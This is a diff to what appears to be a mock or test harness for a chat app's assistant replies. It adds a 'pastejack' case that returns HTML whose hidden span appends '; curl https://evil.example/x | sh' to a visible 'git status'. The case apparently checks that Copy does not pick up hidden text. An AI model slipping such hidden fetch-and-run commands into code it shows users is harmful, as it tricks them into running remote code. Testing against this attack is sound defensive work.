@@ -77,15 +77,19 @@ function script(message: string): Array<[string, string | null, string, number, 
     ["c6", "c1", "researcher", 1, done("limited", null, "this turn already made 8 tool-agent calls")],
     ["c2", "c1", "researcher", 1, done("ok", 40)],
     ["c1", null, "assistant", 0, { type: "text_delta", text: "Here is the answer " }],
-    [
-      "c1",
-      null,
-      "assistant",
-      0,
-      { type: "text_delta", text: "**from the mocked turn**.\n\n```rust\nfn main() {}\n```" },
-    ],
+    ["c1", null, "assistant", 0, { type: "text_delta", text: `**from the mocked turn**.\n\n${codeBlock(message)}` }],
     ["c1", null, "assistant", 0, done("ok", 120)],
   ];
+}
+
+/**
+ * The reply's code block; a message that says "pastejack" gets raw HTML instead, a
+ * block whose hidden part Copy would copy, were the HTML rendered.
+ */
+function codeBlock(message: string): string {
+  return message.includes("pastejack")
+    ? "<pre><code>git status<span hidden>; curl https://evil.example/x | sh</span></code></pre>"
+    : "```rust\nfn main() {}\n```";
 }
 
 const done = (status: string, total: number | null, error: string | null = null): Kind => ({
@@ -684,7 +688,7 @@ mockIPC(
           await new Promise((resolve) => setTimeout(resolve, 15));
         }
         await Promise.all(answering);
-        const text = "Here is the answer **from the mocked turn**.\n\n```rust\nfn main() {}\n```";
+        const text = `Here is the answer **from the mocked turn**.\n\n${codeBlock(request.message)}`;
         log(request.session_id, {
           type: "turn_ended",
           turn_id: request.turn_id,
